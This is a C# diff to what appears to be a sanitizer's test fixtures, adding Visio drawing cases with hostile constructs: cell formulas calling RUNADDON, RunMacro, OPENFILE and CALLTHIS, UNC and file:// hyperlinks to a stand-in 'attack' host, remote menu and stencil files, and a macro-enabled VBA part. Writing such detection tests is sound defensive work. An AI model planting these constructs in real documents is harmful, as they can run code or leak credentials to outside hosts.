@@ -28,7 +28,7 @@ public static class OoxmlAttacks
         "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>" + string.Concat(codes.Select(code => $"<w:r><w:instrText xml:space=\"preserve\">{code}</w:instrText></w:r>"))
         + "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>Seen result</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
 
-    private static IEnumerable<OoxmlAttack> Make() => [.. WordAttacks(), .. SheetAttacks(), .. SlideAttacks(), .. PackageAttacks()];
+    private static IEnumerable<OoxmlAttack> Make() => [.. WordAttacks(), .. SheetAttacks(), .. SlideAttacks(), .. DrawingAttacks(), .. PackageAttacks()];
 
     private static IEnumerable<OoxmlAttack> WordAttacks()
     {
@@ -156,6 +156,19 @@ public static class OoxmlAttacks
         yield return new("task pane", Packages.Pptx().Relate("", "rId5", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "ppt/webextensions/taskpanes.xml").Part("ppt/webextensions/taskpanes.xml", "application/vnd.ms-office.webextensiontaskpanes+xml", "<wetp:taskpanes xmlns:wetp=\"http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11\" a=\"ATTACK\"/>").As("pane.pptx"), ["ATTACK"], OoxmlFindings.WebExtension, ["p:sldId"]);
         yield return new("VBA of a presentation", Packages.Pptx(main: "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml").Relate("ppt/presentation.xml", "rId7", Ms + "/vbaProject", "vbaProject.bin").Part("ppt/vbaProject.bin", "application/vnd.ms-office.vbaProject", Junk).As("m.pptm"), ["ATTACK-BYTES", "macroEnabled"], OfficeFindings.VbaProject, ["p:sldId"]);
         yield return new("svg picture that is left out of the list", Packages.Pptx("<p:pic><p:nvPicPr><p:cNvPr id=\"2\" name=\"n\"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill><a:blip><a:extLst><a:ext uri=\"{96DAC541-7B7A-43D3-8B79-37D633B846F1}\"><asvg:svgBlip xmlns:asvg=\"http://schemas.microsoft.com/office/drawing/2016/SVG/main\" r:link=\"rId1\"/></a:ext></a:extLst></a:blip></p:blipFill><p:spPr/></p:pic>").Relate("ppt/slides/slide1.xml", "rId1", R + "/image", "https://attack.example/x.svg", true).As("svg.pptx"), ["attack.example", "svgBlip"], OfficeFindings.ExternalLink, ["p:pic>"]);
+    }
+
+    private static IEnumerable<OoxmlAttack> DrawingAttacks()
+    {
+        foreach ((string name, string formula, string mark) in ((string, string, string)[])[("add-on", "RUNADDON(&quot;attack&quot;)", "RUNADDON"), ("macro", "GUARD(RunMacro(&quot;attack&quot;))", "RunMacro"), ("file", "OPENFILE(&quot;\\\\attack\\x.exe&quot;)", "OPENFILE"),
+            ("module", "CALLTHIS(&quot;attack&quot;,)", "CALLTHIS"), ("text that becomes a formula", "SETF(GETREF(User.a),&quot;RUN&quot;&amp;&quot;ADDON(1)&quot;)", "ADDON"), ("hyperlink function", "HYPERLINK(&quot;file://attack/x&quot;)", "HYPERLINK")])
+            yield return new("Visio cell that runs a " + name, Packages.Vsdx($"<Cell N='EventDblClick' V='0' F='{formula}'/>").As("cell.vsdx"), [mark], OoxmlFindings.MacroCall, ["EventDblClick", "THEMEVAL"]);
+        yield return new("Visio hyperlink cell", Packages.Vsdx("<Section N='Hyperlink'><Row N='Row_1'><Cell N='Address' V='\\\\attack.example\\x.exe'/></Row></Section>").As("link.vsdx"), ["attack.example"], OfficeFindings.UnsafeHyperlink, ["Kept shape"]);
+        yield return new("Visio hyperlink by a formula", Packages.Vsdx("<Section N='Hyperlink'><Row N='Row_1'><Cell N='Address' V='' F='&quot;file://&quot;&amp;Prop.attack'/></Row></Section>").As("link2.vsdx"), ["Prop.attack"], OfficeFindings.UnsafeHyperlink, ["Kept shape"]);
+        yield return new("Visio event that starts an add-on", Packages.Vsdx(document: "<EventList><EventItem ID='0' Action='1' EventCode='2' Enabled='1' Target='attack' TargetArgs=''/></EventList>").As("event.vsdx"), ["EventItem"], OoxmlFindings.MacroCall, ["Kept shape"]);
+        yield return new("Visio menus from a file", Packages.Vsdx(document: "<DocumentSettings><CustomMenusFile>\\\\attack\\m.vsu</CustomMenusFile></DocumentSettings>").As("menus.vsdx"), ["attack"], OfficeFindings.CustomUi, ["Kept shape"]);
+        yield return new("Visio stencil that stands elsewhere", Packages.Vsdx(windows: "<Window ID='1' WindowType='Stencil' Document='\\\\attack\\s.vssx'/>").As("stencil.vsdx"), ["attack"], OfficeFindings.ExternalLink, ["Kept shape"]);
+        yield return new("VBA of a drawing", Packages.Vsdx(main: "application/vnd.ms-visio.drawing.macroEnabled.main+xml").Relate("visio/document.xml", "rId7", Ms + "/vbaProject", "vbaProject.bin").Part("visio/vbaProject.bin", "application/vnd.ms-office.vbaProject", Junk).As("m.vsdm"), ["ATTACK-BYTES", "macroEnabled"], OfficeFindings.VbaProject, ["Kept shape"]);
     }
 
     private static IEnumerable<OoxmlAttack> PackageAttacks()
